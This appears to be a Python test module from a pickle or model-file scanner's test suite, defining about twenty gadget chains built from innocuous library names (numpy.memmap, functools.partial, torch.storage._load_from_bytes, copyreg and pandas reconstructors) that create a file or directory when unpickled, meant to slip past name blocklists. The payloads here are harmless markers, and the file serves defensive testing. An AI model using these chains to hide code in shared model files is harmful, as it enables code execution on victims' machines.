"""Gadgets of harmless names only: what does the harm is how one is handed to another.

None of these calls anything that a table of dangerous names could have. Each name is known good in
some use: a class that may be made but not with these arguments, a function that may be called but
not by another function.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import Any

from tests.attacks.assemble import Appended, Built, Call, Name, New, Raw, SetItems, assemble

_getattr = Name("builtins", "getattr")
_list = Name("builtins", "list")
_map = Name("builtins", "map")
_memmap = Name("numpy", "memmap")
_new = Name("copyreg", "__newobj__")
_partial = Name("functools", "partial")
_ufunc = Name("numpy.core", "_ufunc_reconstruct")
_load = Name("torch.storage", "_load_from_bytes")
_result = Name("scipy.optimize._optimize", "OptimizeResult")


def torch_legacy(expression: Any) -> bytes:
    """A legacy torch file: magic number, protocol version, system information, then a pickle."""
    magic = assemble(0x1950A86A20F9469CFC6C, "protocol2")
    version = assemble(1001, "protocol2")
    system = assemble({"little_endian": True}, "protocol2")
    return magic + version + system + assemble(expression, "protocol4") + assemble([], "protocol2")


def _made(m: str) -> bytes:
    return torch_legacy(Name("os", "mkdir")(m))


_HARMLESS = torch_legacy([1])


def _namespace(**attributes: Any) -> Any:
    return Built(New(Name("argparse", "Namespace"), ()), (attributes,))


def _file(m: str) -> Any:
    """A partial that creates a file."""
    return _partial(_new, _memmap, m, "uint8", "w+", 0, (1,))


def _keywords(m: str) -> Any:
    """What `numpy.memmap` creates a file with: a dictionary that a call returns."""
    pairs = (("filename", m), ("mode", "w+"), ("shape", (1,)))
    return SetItems(Name("collections", "OrderedDict")(), pairs)


def _push(expression: Any) -> bytes:
    return assemble(expression)[2:-1]


BORROWED: dict[str, Callable[[str], Any]] = {
    "map over maps": lambda m: _list(
        _map(_list, _map(_map, _map(_ufunc, ["os"], ["mkdir"]), [[m]]))
    ),
    "map of reduce": lambda m: _list(
        _map(
            _list,
            _map(
                _map,
                _map(
                    Name("functools", "reduce"),
                    [_getattr],
                    [[Name("pathlib", "PosixPath"), "mkdir"]],
                ),
                [[Name("pathlib", "PosixPath")(m)]],
            ),
        )
    ),
    "map of dill's types": lambda m: _list(
        _map(
            _list,
            _list(
                _map(
                    _map, _list(_map(Name("dill._dill", "_load_type"), ["FileType"])), [[m]], ["w"]
                )
            ),
        )
    ),
    "map of NEWOBJ": lambda m: _list(_map(_new, [_memmap], [m], ["uint8"], ["w+"], [0], [(1,)])),
    "map of a function that unpickles": lambda m: _list(_map(_load, [_made(m)])),
    "iter to a sentinel": lambda m: _list(
        _map(_list, _list(_map(Name("builtins", "iter"), [_file(m)], [1])))
    ),
    "ufunc over objects": lambda m: _list(_map(Name("numpy", "exp"), [[_namespace(exp=_file(m))]])),
    "item that is an attribute": lambda m: Built(
        SetItems(New(_result, ()), (("__setstate__", _load),)), (_made(m),)
    ),
    "item that is an attribute, by copyreg": lambda m: Built(
        Name("copyreg", "_reconstructor")(
            _result, Name("builtins", "dict"), {"__setstate__": _load}
        ),
        (_made(m),),
    ),
    "item that is an attribute, in pairs": lambda m: Built(
        Name("copyreg", "_reconstructor")(
            _result, Name("builtins", "dict"), [("__setstate__", _load)]
        ),
        (_made(m),),
    ),
    "item that is an attribute, by zip": lambda m: Built(
        Name("copyreg", "_reconstructor")(
            _result,
            Name("builtins", "dict"),
            Name("builtins", "dict")(Name("builtins", "zip")(["__setstate__"], [_load])),
        ),
        (_made(m),),
    ),
    "item that is an attribute, an alias": lambda m: Built(
        SetItems(New(_result, ()), (("__setstate__", Name("types", "GenericAlias")(_load, ())),)),
        (_made(m),),
    ),
    "item that is an attribute, after many": lambda m: Built(
        SetItems(
            New(_result, ()),
            (*((f"a{at}", 1) for at in range(40)), ("__setstate__", _load)),
            b"u",
        ),
        (_made(m),),
    ),
    "item that is an attribute, by a name that a call returns": lambda m: Built(
        SetItems(New(_result, ()), ((Name("builtins", "str")("__setstate__"), _load),)),
        (_made(m),),
    ),
    "bytes that are appended": lambda m: Call(
        _load, (Appended(Raw(b"\x96" + bytes(8)), tuple(_made(m)), b"e"),)
    ),
    "bytes that take the place of others": lambda m: Call(
        _load,
        (
            SetItems(
                Raw(b"\x96" + struct.pack("<Q", len(_HARMLESS)) + _HARMLESS),
                ((Name("builtins", "slice")(0, None, None), _made(m)),),
            ),
        ),
    ),
    "attributes of a parameter": lambda m: Built(
        Name("torch._utils", "_rebuild_parameter_with_state")(
            New(Name("torch", "Tensor"), ()), False, None, {"__setstate__": _load}
        ),
        (_made(m),),
    ),
    "attributes by Cython": lambda m: Built(
        Name("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked")(
            Name("pandas.core.arrays.datetimes", "DatetimeArray"),
            82904607,
            (None, None, {"__setstate__": _load}),
        ),
        (_made(m),),
    ),
    "keywords that a call returned": lambda m: Raw(
        _push(_memmap) + b")" + _push(_keywords(m)) + b"\x92"
    ),
    "keywords of a partial": lambda m: Call(
        Built(
            New(_partial, (Name("builtins", "int"),)),
            ((_getattr(_memmap, "__new__"), (_memmap,), _keywords(m), {}),),
        ),
        (),
    ),
}
